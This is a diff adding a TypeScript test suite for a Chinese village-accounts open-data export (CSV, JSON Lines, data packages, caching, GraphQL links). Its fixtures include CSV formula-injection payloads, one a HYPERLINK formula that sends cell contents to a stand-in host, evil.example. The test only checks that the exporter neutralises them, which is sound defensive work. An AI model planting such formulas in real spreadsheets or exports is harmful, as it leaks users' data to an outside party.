@@ -1,0 +1,210 @@
+// Bulk open data over HTTP: the files of a village month, a region and the country, exactly what is published.
+import { createHash } from 'node:crypto';
+import { mkdtempSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import { useTestApi } from './support/api.ts';
+import { aMonth, aVillage, aVoucher, credit, debit } from './support/builders.ts';
+
+// Each run writes its generated files to a folder of its own.
+process.env.MINGBAI_OPENDATA_DIR = mkdtempSync(join(tmpdir(), 'mingbai-opendata-test-'));
+
+const t = useTestApi();
+const get = (path: string, init?: RequestInit) => fetch(new URL(path, t.api.url), init);
+
+/** A minimal RFC 4180 reader, to check the files with something other than the code that wrote them. */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i]!;
+    if (quoted && c === '"' && text[i + 1] === '"') {
+      cell += '"';
+      i++;
+    } else if (c === '"') {
+      quoted = !quoted;
+    } else if (quoted || (c !== ',' && c !== '\n')) {
+      cell += c;
+    } else {
+      row.push(cell);
+      cell = '';
+      if (c === '\n') {
+        rows.push(row);
+        row = [];
+      }
+    }
+  }
+  return rows;
+}
+
+const PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', '+86 打款', '-1+2', '@SUM(A1:A9)'];
+
+async function monthWithPayloads() {
+  const village = await aVillage(t.handle.db, '公式村');
+  await aMonth(t.handle.db, village.id, 2025, 3, [
+    aVoucher(1, '2025-03-02', PAYLOADS[0]!, debit('513', 12_345), credit('102', 12_345)),
+    aVoucher(2, '2025-03-03', PAYLOADS[1]!, debit('514', 100), credit('102', 100)),
+    aVoucher(3, '2025-03-04', PAYLOADS[2]!, debit('102', 5_000_00), credit('503', 5_000_00)),
+    aVoucher(4, '2025-03-05', PAYLOADS[3]!, debit('513', 1), credit('101', 1)),
+    aVoucher(5, '2025-03-06', '含"引号",逗号\n换行', debit('513', 2), credit('101', 2)),
+  ]);
+  return village;
+}
+
+describe('a village month', () => {
+  it('neutralises a formula-injection payload in 摘要 in the CSV, and keeps it verbatim in JSON Lines', async () => {
+    const village = await monthWithPayloads();
+    const res = await get(`/data/v/${village.slug}/2025-03/lines.csv`);
+    expect(res.status).toBe(200);
+    expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
+    expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${village.slug}-2025-03-r1-lines.csv"`);
+    const bytes = Buffer.from(await res.arrayBuffer());
+    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
+    const rows = parseCsv(bytes.toString('utf8').slice(1));
+    const header = rows[0]!;
+    const summary = header.indexOf('summary');
+    const summaries = new Set(rows.slice(1).map((r) => r[summary]));
+    for (const payload of PAYLOADS) {
+      expect(summaries).toContain(`'${payload}`);
+      expect(summaries).not.toContain(payload);
+    }
+    expect(summaries).toContain('含"引号",逗号\n换行');
+    // Every cell of every row: none starts a formula.
+    for (const row of rows.slice(1)) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
+
+    const jsonl = await (await get(`/data/v/${village.slug}/2025-03/lines.jsonl`)).text();
+    const lines = jsonl
+      .trimEnd()
+      .split('\n')
+      .map((l) => JSON.parse(l) as Record<string, unknown>);
+    expect(lines).toHaveLength(10);
+    expect(new Set(lines.map((l) => l.summary))).toContain(PAYLOADS[0]);
+    expect(lines[0]).toMatchObject({
+      village_slug: village.slug,
+      year: 2025,
+      month: 3,
+      revision: 1,
+      voucher_number: 1,
+      voucher_date: '2025-03-02',
+      line_no: 1,
+      account_code: '513',
+      side: 'debit',
+      kind: 'spending',
+      amount_fen: '12345',
+      amount_yuan: '123.45',
+    });
+  });
+
+  it('describes its files in a data package whose sizes and SHA-256 match what is served', async () => {
+    const village = await monthWithPayloads();
+    const res = await get(`/data/v/${village.slug}/2025-03/datapackage.json`);
+    expect(res.status).toBe(200);
+    const pkg = (await res.json()) as {
+      licenses: { name: string }[];
+      resources: { name: string; path: string; bytes: number; hash: string; schema: { fields: { name: string }[] } }[];
+      mingbai: { chain: { digest: string; chainSeq: number }[] };
+    };
+    expect(pkg.licenses[0]!.name).toBe('CC-BY-4.0');
+    expect(pkg.resources.map((r) => r.path)).toEqual(['r1/lines.csv', 'r1/lines.jsonl', 'r1/statements.csv']);
+    for (const resource of pkg.resources) {
+      const file = await get(`/data/v/${village.slug}/2025-03/${resource.path}`);
+      expect(file.headers.get('cache-control')).toContain('immutable');
+      const body = Buffer.from(await file.arrayBuffer());
+      expect(body.length).toBe(resource.bytes);
+      expect(`sha256:${createHash('sha256').update(body).digest('hex')}`).toBe(resource.hash);
+    }
+    const statements = parseCsv(
+      (await (await get(`/data/v/${village.slug}/2025-03/r1/statements.csv`)).text()).slice(1),
+    );
+    const row = Object.fromEntries(statements[0]!.map((name, i) => [name, statements[1]![i]]));
+    expect(row).toMatchObject({
+      digest: pkg.mingbai.chain[0]!.digest,
+      previous_digest: '',
+      chain_seq: '1',
+      income_fen: '500000',
+      spending_fen: '12448',
+    });
+  });
+
+  it('answers unknown, unpublished and malformed addresses with a coded 404 in Chinese', async () => {
+    const village = await aVillage(t.handle.db);
+    await aMonth(
+      t.handle.db,
+      village.id,
+      2025,
+      4,
+      [aVoucher(1, '2025-04-01', '草稿', debit('513', 9), credit('102', 9))],
+      {
+        publish: false,
+      },
+    );
+    for (const path of [
+      `/data/v/${village.slug}/2025-04/lines.csv`,
+      `/data/v/${village.slug}/2025-04/r1/lines.jsonl`,
+      `/data/v/no-such-village/2025-04/datapackage.json`,
+      `/data/months/1999-01/lines.csv`,
+      `/data/r/no-such-region/2025-04/lines.csv`,
+      `/data/v/${village.slug}/2025-13/lines.csv`,
+      `/data/v/${village.slug}/2025-04/lines.xlsx`,
+    ]) {
+      const res = await get(path);
+      expect(res.status, path).toBe(404);
+      const body = (await res.json()) as { errors: { message: string; extensions: { code: string } }[] };
+      expect(body.errors[0]!.extensions.code).toBe('NOT_FOUND');
+      expect(body.errors[0]!.message).toMatch(/[\u4e00-\u9fff]/);
+    }
+  });
+
+  it('revalidates with its ETag and answers HEAD without a body', async () => {
+    const village = await monthWithPayloads();
+    const path = `/data/v/${village.slug}/2025-03/r1/lines.csv`;
+    const first = await get(path);
+    await first.arrayBuffer();
+    const etag = first.headers.get('etag')!;
+    expect(etag).toMatch(/^"[0-9a-f]{40}"$/);
+    const again = await get(path, { headers: { 'if-none-match': etag } });
+    expect(again.status).toBe(304);
+    const head = await get(path, { method: 'HEAD' });
+    expect(head.status).toBe(200);
+    expect(Number(head.headers.get('content-length'))).toBeGreaterThan(0);
+  });
+});
+
+describe('a month across villages', () => {
+  it('includes the current revision of every village in the country and in its region, and links them from GraphQL', async () => {
+    const village = await monthWithPayloads();
+    const national = await (await get('/data/months/2025-03/lines.jsonl')).text();
+    const mine = national
+      .trimEnd()
+      .split('\n')
+      .map((l) => JSON.parse(l) as { village_slug: string })
+      .filter((l) => l.village_slug === village.slug);
+    expect(mine).toHaveLength(10);
+
+    const res = await t.api.query<{
+      village: { statement: { downloads: { csv: string; datapackage: string } } };
+      openData: { csv: string; statementsCsv: string } | null;
+      none: unknown;
+    }>(
+      `query ($slug: String!) {
+        village(slug: $slug) { statement(year: 2025, month: 3) { downloads { csv datapackage } } }
+        openData(year: 2025, month: 3) { csv statementsCsv }
+        none: openData(year: 2001, month: 1) { csv }
+      }`,
+      { slug: village.slug },
+    );
+    expect(res.errors).toBeUndefined();
+    expect(res.data!.village.statement.downloads.csv).toBe(`/data/v/${village.slug}/2025-03/r1/lines.csv`);
+    expect(res.data!.openData!.csv).toBe('/data/months/2025-03/lines.csv');
+    expect(res.data!.none).toBeNull();
+
+    const statements = await (await get(res.data!.openData!.statementsCsv)).text();
+    expect(statements).toContain(village.slug);
+
+    const catalog = (await (await get('/data/catalog.json')).json()) as { months: { year: number; month: number }[] };
+    expect(catalog.months).toContainEqual(expect.objectContaining({ year: 2025, month: 3 }));
+  });
+});
